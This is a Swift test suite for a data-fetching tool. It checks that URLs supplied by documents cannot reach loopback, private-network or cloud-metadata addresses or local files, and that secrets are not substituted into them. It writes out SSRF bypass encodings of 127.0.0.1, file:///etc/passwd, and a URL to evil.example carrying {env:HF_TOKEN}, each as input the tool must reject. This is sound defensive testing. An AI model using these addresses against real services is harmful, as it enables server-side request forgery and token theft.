// S7: what a document or a list brings is fetched out in the world alone, and no
// file of this machine is read for it, unless the user says that it is meant.
// Here 127.0.0.2 stands for the Internet, which a test does not ask.

import Base
import Catalog
import Fetch
import Foundation
import Lake
import Synchronization
import Testing
import TestSupport

@Suite struct DocumentReachTests {
  let directory: TemporaryDirectory
  let shard = makeShard(rows: 3_000)

  init() throws { directory = try TemporaryDirectory() }

  private func request(_ urls: [String]) -> FetchRequest {
    let plain = makeRequest(in: directory, from: urls)
    return FetchRequest(
      id: plain.id, mirrors: plain.mirrors.map { FetchMirror(id: $0.id, url: $0.url, isOfDocument: true) },
      partPath: plain.partPath, expectation: plain.expectation, finalPath: plain.finalPath)
  }

  @Test(arguments: [
    "127.0.0.1", "localhost", "2130706433", "0x7f.1", "017700000001", "127.1", "[::ffff:127.0.0.1]", "[::1]", "0.0.0.0",
    "[::127.0.0.1]", "localhost.",
  ])
  func s7ADocumentLeadsNowhereIntoThisMachine(host: String) async throws {
    let inside = try HostileServer { [shard] in .file(shard, for: $0) }
    let run = await fetch([request(["http://\(host):\(inside.port)/a.npy"])], configuration: outsideConfiguration())
    #expect(run.failure()?.code == .untrusted, "\(String(describing: run.failure()))")
    #expect(run.failure()?.hint?.contains("--allow-inside") == true)
    #expect(inside.connectionCount == 0)
  }

  @Test(arguments: [
    "169.254.169.254", "10.0.0.1", "192.168.0.1", "100.64.0.1", "224.0.0.1", "[fd00:ec2::254]", "[fe80::1]",
    "[2001::1]", "[2002:7f00:1::]", "[64:ff9b::7f00:1]", "[64:ff9b:1::1]", "[fc00::1]", "metadata.google.internal",
  ])
  func s7NorIntoANetwork(host: String) async throws {
    let run = await fetch([request(["http://\(host)/a.npy"])], configuration: outsideConfiguration())
    #expect(run.failure()?.code == .untrusted)
    #expect(run.attempts.isEmpty || run.attempts.allSatisfy { $0.receivedByteCount == 0 })
  }

  /// Names are a proxy's to judge, whatever port it has: its own address is nothing that a document led to.
  @Test(arguments: [true, false]) func s7AProxyInsideIsNoServerInside(isOfOnePort: Bool) async throws {
    let proxy = try HostileServer { [shard] in .file(shard, for: $0) }
    var configuration = quickConfiguration()
    configuration.proxy = proxy.url("")
    let url = "http://host.example:\(isOfOnePort ? proxy.port : 80)/a.npy"
    let run = await fetch([request([url])], configuration: configuration)
    #expect(run.shard() != nil, "\(String(describing: run.failure()))")
    #expect(proxy.requests.first?.target.hasPrefix("http://host.example") == true)
  }

  @Test func s7AFileOfThisMachineIsNotReadForADocument() async throws {
    let path = directory.path + "/own.npy"
    try Data(shard).write(to: URL(fileURLWithPath: path))
    let run = await fetch([request(["file://\(path)"])], configuration: outsideConfiguration())
    #expect(run.failure()?.code == .untrusted)
    #expect(try directory.contents() == ["own.npy"])
    let reader = try RangeReader(configuration: outsideConfiguration(), isCancelled: { false })
    let error = #expect(throws: TarnError.self) {
      try reader.read(0..<10, of: shard.count, from: FetchMirror(id: 1, url: "file://\(path)", isOfDocument: true))
    }
    #expect(error?.code == .untrusted)
    let answer = Mutex<ProbeFinding.Answer?>(nil)
    try await Prober(configuration: outsideConfiguration()).run(
      [ProbeTarget(shardID: 1, mirror: FetchMirror(id: 1, url: "file://\(path)", isOfDocument: true))]
    ) { finding in answer.withLock { $0 = finding.answer } }
    guard case .faulty = answer.withLock({ $0 }) else {
      Issue.record("a probe looked")
      return
    }
  }

  @Test func s7TheWorldIsAskedAndTheNextMirrorTakenWhereOneLeadsInside() async throws {
    let inside = try HostileServer { [shard] in .file(shard, for: $0) }
    let outside = try HostileServer(onLoopback: 2) { [shard] in .file(shard, for: $0) }
    let run = await fetch(
      [request([inside.url("/a.npy"), "file:///etc/passwd", outside.url("/a.npy")])],
      configuration: outsideConfiguration())
    #expect(bytes(at: try #require(run.shard()).path) == shard)
    #expect(run.attempts.map(\.outcome) == [.refused, .refused, .succeeded])
    #expect(inside.connectionCount == 0)
  }

  /// That others have it not says nothing of one that was not asked: it is the one that a user can do something about.
  @Test func s7WhatWasNotAskedIsToldWhereOthersHaveNothing() async throws {
    let outside = try HostileServer(onLoopback: 2) { _ in .answer(404) }
    let run = await fetch(
      [request(["file:///etc/passwd", outside.url("/a.npy")])], configuration: outsideConfiguration())
    #expect(run.failure()?.code == .untrusted, "\(String(describing: run.failure()))")
    #expect(run.failure()?.hint?.contains("--allow-inside") == true)
    #expect(outside.requests.count == 1)
  }

  @Test func s7AnAddressOfTheWorldThatRedirectsInsideIsNotFollowed() async throws {
    let inside = try HostileServer { [shard] in .file(shard, for: $0) }
    let target = inside.url("/a.npy")
    let outside = try HostileServer(onLoopback: 2) { _ in .answer(302, headers: ["Location: \(target)"]) }
    let run = await fetch([request([outside.url("/a.npy")])], configuration: outsideConfiguration())
    #expect(run.failure()?.code == .refused)
    #expect(inside.connectionCount == 0)
  }

  @Test func s7TheLakeRemembersWhoBroughtAnAddressAndTheUsersWordForIt() async throws {
    let lake = try TemporaryLake()
    let server = try HostileServer { [shard] in .file(shard, for: $0) }
    var definition = SourceDefinition(
      name: "images", modality: .image, dimension: 4, elementType: .float16, mirrors: ["brought", "own"],
      shards: [.init(name: "a.npy", urls: [server.url("/brought.npy"), server.url("/own.npy")])])
    definition.ofDocuments = [0]
    let source = try lake.catalog.addSource(definition)
    var options = SyncOptions()
    options.fetch = quickConfiguration()
    _ = try await SyncRun(lake.catalog, options, cancellation: Cancellation()) { _ in }.run()
    #expect(server.requests.map(\.target) == ["/own.npy"])
    #expect(try lake.rows("SELECT state FROM v_location ORDER BY mirror") == ["faulty", "present"])
    try lake.catalog.trustAddresses(of: source)
    let locations = try lake.catalog.locations(of: lake.catalog.shards(of: source)[0].id)
    #expect(locations.map(\.isOfDocument) == [false, false])
  }

  @Test(arguments: ["file:///etc/passwd", "http://127.0.0.1/a.npy", "http://2130706433/a.npy", "http://[::1]/a.npy"])
  func s7AListIsNotRegisteredWithAnAddressInside(url: String) throws {
    let lake = try TemporaryLake()
    let list = directory.path + "/urls.txt"
    try Data("https://host.example/0.npy\n\(url)\n".utf8).write(to: URL(fileURLWithPath: list))
    func register(allowsInside: Bool) throws {
      _ = try SourceRegistration(
        name: "images", modality: .image, dimension: 4, elementType: .float16, place: .list(list), mirrors: [],
        reconstructed: [], sizes: nil, digests: nil, tree: nil, allowsInside: allowsInside
      ).run(lake.catalog)
    }
    let error = #expect(throws: TarnError.self) { try register(allowsInside: false) }
    #expect(error?.code == .usage && error?.message.contains(list) == true)
    try register(allowsInside: true)
    let shards = try lake.catalog.shards(of: lake.catalog.source(named: "images"))
    #expect(try shards.allSatisfy { try !lake.catalog.locations(of: $0.id)[0].isOfDocument })
  }
}

@Suite struct EnvironmentPlaceTests {
  @Test func s4AnAddressGetsItsVariableWhenItIsAskedAndNothingKeepsIt() async throws {
    let directory = try TemporaryDirectory()
    let shard = makeShard(rows: 2_000)
    let server = try HostileServer { request in
      request.target == "/a.npy?sig=planted-5eCr3t" ? .file(shard, for: request) : .answer(403)
    }
    var configuration = quickConfiguration()
    let url = server.url("/a.npy?sig={env:SIG}")
    configuration.variable = { $0 == "SIG" ? "planted-5eCr3t" : nil }
    let run = await fetch([makeRequest(in: directory, from: [url])], configuration: configuration)
    #expect(bytes(at: try #require(run.shard(), "\(String(describing: run.failure()))").path) == shard)
    #expect(run.attempts.map(\.url) == [url])
    configuration.variable = { _ in nil }
    let other = await fetch([makeRequest(2, in: directory, from: [url])], configuration: configuration)
    #expect(other.failure(2)?.code == .usage)
    #expect(other.failure(2)?.message.contains("SIG") == true)
    configuration.variable = { _ in "planted-5eCr3t-wrong" }
    let refused = await fetch([makeRequest(3, in: directory, from: [url])], configuration: configuration)
    #expect(refused.failure(3)?.code == .refused)
    #expect(!"\(refused.events)".contains("5eCr3t"))
  }

  @Test func s4ADocumentGetsNoVariable() async throws {
    let lake = try TemporaryLake()
    let text = """
      {"name": "images", "modality": "image", "dimension": 4, "dtype": "float16", "mirrors": ["m"], "shards":
        [{"name": "a.npy", "urls": ["https://evil.example/a.npy?path={env:HF_TOKEN}"], "bytes": 10}]}
      """
    let document = try JSONDecoder().decode(VersionExport.Source.self, from: Data(text.utf8))
    let error = #expect(throws: TarnError.self) { try lake.catalog.adopt(document) }
    #expect(error?.code == .usage && error?.message.contains("variable") == true)
    #expect(try lake.catalog.sources().isEmpty)
  }
}

@Suite struct ShardNameTests {
  @Test(arguments: ["https://h.example/{ordinal}/content", "https://h.example/get?path=img/{ordinal}.npy"])
  func addressesThatEndAlikeGetNamesOfTheirOwn(url: String) throws {
    let lake = try TemporaryLake()
    func register(_ names: String?, count: Int = 12) throws {
      _ = try SourceRegistration(
        name: "images", modality: .image, dimension: 4, elementType: .float16, place: .template(url, count: count),
        mirrors: [], reconstructed: [], sizes: nil, digests: nil, tree: nil, shardNames: names
      ).run(lake.catalog)
    }
    let alike = #expect(throws: TarnError.self) { try register(nil) }
    #expect(alike?.hint?.contains("--shard-names") == true)
    for names in ["same.npy", "a/{ordinal}.npy", "{ordinal", "../{ordinal}.npy", "-{ordinal}.npy", ""] {
      let error = #expect(throws: TarnError.self, "\(names)") { try register(names) }
      #expect(error?.code == .usage)
    }
    try register("img_{ordinal:03}.npy")
    let shards = try lake.catalog.shards(of: lake.catalog.source(named: "images"))
    #expect(shards.map(\.name).prefix(2) == ["img_000.npy", "img_001.npy"])
    #expect(try lake.catalog.locations(of: shards[3].id).map(\.url) == [url.replacing("{ordinal}", with: "3")])
  }
}
